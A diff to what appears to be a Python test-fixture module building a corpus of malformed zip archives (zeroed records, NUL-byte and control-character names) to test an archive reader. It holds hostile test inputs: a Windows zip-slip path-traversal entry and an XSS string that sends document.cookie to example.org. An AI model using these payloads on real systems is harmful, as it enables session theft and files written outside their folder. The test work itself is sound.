@@ -261,6 +261,12 @@ def central(change: Callable[[bytearray, int], None]) -> Callable[[bytes], bytes
     return changed
 
 
+def spoilt_record(data: bytes) -> bytes:
+    """An archive in which a part of a record has become zeros."""
+    at = data.find(f"{TARGET}.json".encode()) + 1000
+    return data[:at] + bytes(1000) + data[at + 1000:]
+
+
 def macintosh(archive: zipfile.ZipFile) -> None:
     """What macOS adds to an archive."""
     for name in archive.namelist():
@@ -303,9 +309,9 @@ def only(*names: str) -> Callable[[Path], None]:
 
 def nameless(folder: Path) -> None:
     """An entry whose name is the character that ends names."""
-    zipped(lambda archive: archive.writestr("~", "{}"))(folder)
+    zipped(lambda archive: archive.writestr("~nameless", "{}"))(folder)
     path = folder.with_name(folder.name + ".zip")
-    path.write_bytes(path.read_bytes().replace(b"~", b"\0"))
+    path.write_bytes(path.read_bytes().replace(b"~nameless", b"\0nameless"))
 
 
 SCRIPT = "<script>fetch('http://example.org/'+document.cookie)</script><img src=x onerror=alert(1)>"
@@ -384,5 +390,5 @@ CORPUS: dict[str, Callable[[Path], None]] = {
     "zip-windows-slip": with_entry("..\\..\\escaped.json"),
     "a\nb": added("=x.json", b"{}"), "a b": added("=x.json", b"{}"),
     "zip-null-name": with_entry("a\x01b.json"),
-    "zip-flipped": zip_bytes(lambda data: data[:3000] + bytes(1000) + data[4000:]),
+    "zip-flipped": zip_bytes(spoilt_record),
 }
